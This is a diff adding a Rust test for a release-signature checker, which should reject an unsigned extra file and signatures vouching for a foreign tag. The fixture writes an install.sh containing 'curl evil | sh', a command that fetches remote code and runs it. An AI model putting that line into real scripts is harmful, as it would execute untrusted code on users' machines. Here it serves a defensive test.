@@ -452,6 +452,38 @@ mod release_tests {
         );
     }
 
+    /// An unsigned file beside a good release, and signatures that vouch for another tag than
+    /// the manifests carry, are both refused by name.
+    #[test]
+    fn extra_files_and_a_foreign_tag_are_refused() {
+        let (sk, pk) = key();
+        let d = tempfile::tempdir().unwrap();
+        let out = released(d.path(), &sk);
+        kc_common::release::check_release_dir(&out, &pk).unwrap();
+        std::fs::write(out.join("install.sh"), b"curl evil | sh").unwrap();
+        let e = kc_common::release::check_release_dir(&out, &pk)
+            .unwrap_err()
+            .to_string();
+        assert!(e.contains("install.sh") && e.contains("no signed list"), "{e}");
+        std::fs::remove_file(out.join("install.sh")).unwrap();
+        // Re-sign every file, bytes unchanged, as if for v9.9.9.
+        let names: Vec<String> = std::fs::read_dir(&out)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .filter(|n| !n.ends_with(".minisig"))
+            .collect();
+        for n in names {
+            let data = std::fs::read(out.join(&n)).unwrap();
+            let comment = release::trusted_comment("v9.9.9", &n);
+            let sig = crate::signing::sign(&sk, &data, &comment, "test").unwrap();
+            std::fs::write(out.join(format!("{n}.minisig")), sig).unwrap();
+        }
+        let e = kc_common::release::check_release_dir(&out, &pk)
+            .unwrap_err()
+            .to_string();
+        assert!(e.contains("does not name") && e.contains("of v1.2.3"), "{e}");
+    }
+
     #[test]
     fn tampering_is_caught_and_named() {
         let (sk, pk) = key();
